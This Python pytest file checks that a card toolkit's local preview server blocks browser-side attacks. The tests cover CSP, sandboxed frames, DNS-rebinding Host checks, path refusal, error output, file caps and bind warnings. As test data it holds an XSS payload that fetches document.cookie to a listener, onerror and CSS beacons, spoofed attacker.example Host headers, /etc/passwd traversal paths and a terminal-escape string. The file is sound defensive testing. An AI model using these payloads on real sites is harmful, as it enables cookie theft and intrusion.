"""`toolkit serve` attacked the way a browser (or a page in it) would: no project script
runs (CSP and sandboxed frames, checked in the system Chromium too), only Host headers
naming this computer are answered (DNS rebinding), bad requests and failures are status
codes with one line on the terminal, files are streamed under a size cap, and a bind
beyond loopback is warned about (issue #28: F1, F10, F20, F22)."""

from __future__ import annotations

import http.client
import re
import socket
import threading
import time
import tracemalloc
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from serve_kit import chromium, in_thread, preview_served

from toolkit.new.scaffold import create
from toolkit.serve import server as server_module

FACE_TEMPLATE = "templates/cards/playing_card.html.j2"


def get(port, path, host=None, method="GET"):
    """(status, headers, body) of one request; `host` replaces the Host header."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    conn.putheader("Host", host if host is not None else f"127.0.0.1:{port}")
    conn.endheaders()
    response = conn.getresponse()
    body = response.read()
    conn.close()
    return response.status, response.headers, body


def raw(port, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return data


class Listener:
    """Another origin that counts what reaches it: a leak would show up here."""

    def __init__(self):
        hits = self.hits = []

        class Count(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.running = ExitStack()
        self.url = self.running.enter_context(in_thread(ThreadingHTTPServer(("127.0.0.1", 0),
                                                                            Count)))

    def close(self):
        self.running.close()


@pytest.fixture
def project(tmp_path):
    return create(tmp_path / "five", "blank")


@pytest.fixture
def served(project):
    with preview_served(project) as (_, port, preview):
        yield project, port, preview


# --- F1: the Content-Security-Policy and the sandboxed frames --------------------------------

def _csp(headers) -> dict[str, str]:
    policy = headers["Content-Security-Policy"]
    assert policy, "every response carries a CSP"
    return {d.split()[0]: d for d in (p.strip() for p in policy.split(";")) if d}


def test_every_response_carries_a_strict_policy(served):
    project, port, _ = served
    (project / "output" / "sim").mkdir(parents=True)
    report = project / "output" / "sim" / "report.html"
    report.write_text("<p>report</p>")
    paths = {"/": 200, "/api/state": 200, "/face/en/playing_card/sun_5": 200,
             "/reports": 200, "/fs" + report.resolve().as_posix(): 200, "/nowhere": 404,
             "/face/en/nothing": 404, "/fs/etc/passwd": 403}
    for path, status in paths.items():
        code, headers, _ = get(port, path)
        assert code == status, path
        csp = _csp(headers)
        assert csp["default-src"] == "default-src 'none'", path
        assert "'unsafe-inline'" not in csp.get("script-src", ""), path
        assert "http" not in headers["Content-Security-Policy"], path  # no outside origin
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_the_gallery_runs_only_its_own_script_by_nonce(served):
    _, port, _ = served
    _, headers, body = get(port, "/")
    page = body.decode()
    csp = _csp(headers)
    nonce = re.fullmatch(r"script-src 'nonce-([\w-]+)'", csp["script-src"]).group(1)
    assert page.count("<script") == 1 and f'<script nonce="{nonce}">' in page
    assert csp["connect-src"] == "connect-src 'self'"
    assert csp["frame-ancestors"] == "frame-ancestors 'none'"
    _, again, _ = get(port, "/")
    assert nonce not in again["Content-Security-Policy"]  # a fresh nonce a response


def test_faces_and_files_are_sandboxed_without_scripts(served):
    project, port, _ = served
    face = _csp(get(port, "/face/en/playing_card/sun_5")[1])
    assert face["sandbox"] == "sandbox allow-same-origin"  # no allow-scripts: no script runs
    assert "script-src" not in face  # falls back to default-src 'none'
    report = project / "output" / "sim" / "report.html"
    report.parent.mkdir(parents=True)
    report.write_text("<script>fetch('/api/state')</script>")
    shipped = _csp(get(port, "/fs" + report.resolve().as_posix())[1])
    assert shipped["sandbox"] == "sandbox"  # an opaque origin: reads nothing of the preview
    gallery = get(port, "/")[2].decode()
    frames = re.findall(r"<iframe[^>]*>", gallery)
    assert frames and all('sandbox="allow-same-origin"' in f for f in frames)
    assert "allow-scripts" not in gallery
    reports = get(port, "/reports")[2].decode()
    assert re.findall(r"<iframe[^>]*>", reports) == [
        f"<iframe src='/fs{report.resolve().as_posix()}' sandbox title='Balance (toolkit "
        "simulate)'>"]


@pytest.fixture(scope="module")
def browser():
    yield from chromium()


def test_project_scripts_and_css_beacons_do_not_run_in_chromium(browser, project):
    """The review's S11, S13 and S14 in a real browser: a <script> and an onerror handler in
    a project template, a style that fetches another origin, and a shipped report with a
    script, opened in its frame and alone. Nothing reaches the other origin, the gallery's
    title stays, and the gallery itself still works (faces drawn, rules text measured)."""
    listener = Listener()
    try:
        beacon = listener.url
        template = project / FACE_TEMPLATE
        text = template.read_text(encoding="utf-8")
        attack = (f"<script>fetch('{beacon}/script?'+document.cookie);"
                  "parent.document.title='XSS-RAN';</script>"
                  f"<img src=x onerror=\"fetch('{beacon}/onerror')\">"
                  f"<div style=\"background-image: url({beacon}/css-beacon)\">.</div>")
        assert "{% block body %}" in text
        template.write_text(text.replace("{% block body %}", "{% block body %}" + attack, 1),
                            encoding="utf-8")
        report = project / "output" / "sim" / "report.html"
        report.parent.mkdir(parents=True)
        report.write_text(f"<p>Balance</p><script>fetch('{beacon}/report?'+1)</script>"
                          f"<img src='{beacon}/report-img'>")
        with preview_served(project) as (_, port, _):
            url = f"http://127.0.0.1:{port}"
            tab = browser.new_page()
            blocked = []
            tab.on("console", lambda m: blocked.append(m.text))
            tab.goto(url + "/")
            face = tab.frame_locator('[data-key="playing_card/sun_5"] iframe')
            face.locator("h1.title", has_text="Sun 5").wait_for(timeout=10_000)
            tab.wait_for_function("document.body.dataset.version !== undefined")
            tab.goto(url + "/reports")
            tab.frame_locator("iframe").locator("text=Balance").wait_for(timeout=10_000)
            tab.goto(url + "/fs" + report.resolve().as_posix())
            tab.locator("text=Balance").wait_for(timeout=10_000)
            time.sleep(0.5)
            tab.goto(url + "/")
            tab.frame_locator('[data-key="playing_card/sun_5"] iframe').locator(
                "h1.title").wait_for(timeout=10_000)
            time.sleep(0.5)
            assert tab.title() == "card-toolkit preview"
            tab.close()
        assert listener.hits == []
        assert any("Content Security Policy" in m or "sandboxed" in m for m in blocked)
    finally:
        listener.close()


def test_rules_text_is_still_measured_in_the_sandboxed_frames(browser, tmp_path):
    """The gallery reads into its allow-same-origin frames to flag text that never fits."""
    project = create(tmp_path / "db", "deckbuilder")
    cards = project / "cards" / "cards.yaml"
    text = cards.read_text(encoding="utf-8")
    old = 'text: {en: "Draw a card. You may'
    assert old in text
    cards.write_text(text.replace(old, 'text: {en: "' + "Draw a card and another. " * 80
                                  + "You may"), encoding="utf-8")
    with preview_served(project) as (_, port, _):
        tab = browser.new_page()
        tab.goto(f"http://127.0.0.1:{port}/")
        box = tab.locator('[data-key="market_card/village"]')
        box.locator(".problem.warning", has_text="does not fit").wait_for(timeout=10_000)
        tab.close()


# --- F10: the Host header ---------------------------------------------------------------------

def test_only_hosts_naming_this_computer_are_answered(served):
    _, port, _ = served
    for host in (f"attacker.example:{port}", "attacker.example", f"127.0.0.1.nip.io:{port}",
                 f"localhost.attacker.example:{port}", f"127.0.0.1:{port}@evil", ""):
        code, headers, body = get(port, "/api/state", host=host)
        assert code == 421, host
        assert b"cards" not in body and "Content-Security-Policy" in headers
    assert get(port, "/fs/etc/hostname", host="attacker.example")[0] == 421
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}",
                 f"[::1]:{port}", "localhost"):
        assert get(port, "/api/state", host=host)[0] == 200, host
    no_host = raw(port, b"GET /api/state HTTP/1.1\r\nConnection: close\r\n\r\n")
    assert no_host.startswith(b"HTTP/1.1 421")


def test_a_wildcard_bind_answers_addresses_but_not_names(project):
    from toolkit.serve.policy import allowed_hosts, host_ok

    wide = allowed_hosts("0.0.0.0")
    assert host_ok("192.168.1.20:8000", wide, True)
    assert not host_ok("rebind.attacker.example:8000", wide, True)
    assert not host_ok("192.168.1.20:8000", allowed_hosts("127.0.0.1"), False)
    assert host_ok("cards.lan:8000", allowed_hosts("cards.lan"), False)


# --- F20: errors are status codes, files are streamed under a cap ------------------------------

def test_nul_and_failures_are_status_codes_with_one_line(served, capsys, monkeypatch):
    project, port, preview = served
    for path in (f"/fs{project.resolve().as_posix()}/%00", "/face/en/%00", "/%00"):
        code, _, body = get(port, path)
        assert code == 400 and b"NUL" in body, path
    answer = raw(port, b"GET /\x00 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 400")

    def broken():
        raise RuntimeError("state\x1b]0;PWNED\x07 failed")

    monkeypatch.setattr(preview.snapshot, "state", broken)
    code, _, body = get(port, "/api/state")
    assert code == 500 and b"Traceback" not in body
    assert get(port, "/face/en/playing_card/sun_5")[0] == 200  # still serving
    err = capsys.readouterr().err
    assert "Traceback" not in err and "\x1b" not in err
    lines = [line for line in err.splitlines() if line]
    assert lines == ["serve: GET /api/state failed: RuntimeError: state\\x1b]0;PWNED\\x07 failed"]


def test_files_are_streamed_in_chunks_and_capped(served, monkeypatch):
    project, port, _ = served
    art = project / "art"
    art.mkdir(exist_ok=True)
    big = art / "big.png"
    with open(big, "wb") as handle:  # sparse: no disk is used
        handle.truncate(server_module.MAX_FILE_BYTES + 1)
    code, _, body = get(port, "/fs" + big.resolve().as_posix())
    assert code == 413 and str(server_module.MAX_FILE_BYTES) in body.decode()

    size = 24 * 1024 * 1024
    with open(big, "wb") as handle:
        handle.seek(size - 3)
        handle.write(b"end")
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    tracemalloc.start()
    try:
        conn.request("GET", "/fs" + big.resolve().as_posix())
        response = conn.getresponse()
        assert response.status == 200 and int(response.headers["Content-Length"]) == size
        got, last = 0, b""
        while chunk := response.read(1 << 16):
            got += len(chunk)
            last = (last + chunk)[-3:]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        conn.close()
    assert got == size and last == b"end"
    assert peak < 8 * 1024 * 1024, f"{peak} bytes held for a {size} byte file"


def test_paths_outside_are_refused_before_the_disk_is_looked_at(served):
    _, port, _ = served
    for path in ("/fs/etc/passwd", "/fs/etc/no-such-file-here", "/fs/%2e%2e/%2e%2e/etc/passwd"):
        assert get(port, path)[0] == 403, path  # the same answer: no existence oracle


def test_http_servers_own_refusals_carry_the_headers(served):
    _, port, _ = served
    code, headers, body = get(port, "/", method="POST")
    assert code == 501 and "sandbox" in headers["Content-Security-Policy"]
    assert b"<" not in body


# --- F22: the bind address ---------------------------------------------------------------------

class _FakeServer:
    server_address = ("0.0.0.0", 8123)

    def serve_forever(self, poll_interval):
        raise KeyboardInterrupt

    def server_close(self):
        pass


class _FakePreview:
    def __init__(self, project, trust):
        import toolkit.serve.snapshot as snapshot
        self.snapshot = snapshot.Snapshot()
        self.stop = threading.Event()
        self.changed = threading.Condition()

    def watch(self):
        pass


@pytest.mark.parametrize("host, warned", [("0.0.0.0", True), ("::", True),
                                          ("192.168.7.7", True), ("127.0.0.1", False),
                                          ("localhost", False), ("::1", False)])
def test_a_bind_beyond_loopback_is_warned_about(project, monkeypatch, capsys, host, warned):
    from toolkit.cli import main

    monkeypatch.setattr(server_module, "Preview", _FakePreview)
    monkeypatch.setattr(server_module, "make_server", lambda *a: _FakeServer())
    with pytest.raises(SystemExit) as info:
        main(["serve", str(project), "--host", host])
    assert info.value.code == 130
    err = capsys.readouterr().err
    assert ("anyone on the network" in err) is warned, err


@pytest.mark.parametrize("host", ["", "  "])
def test_an_empty_host_is_refused(project, capsys, host):
    from toolkit.cli import main

    with pytest.raises(SystemExit) as info:
        main(["serve", str(project), "--host", host])
    err = capsys.readouterr().err
    assert info.value.code == 2 and "--host is empty" in err and len(err.splitlines()) == 1
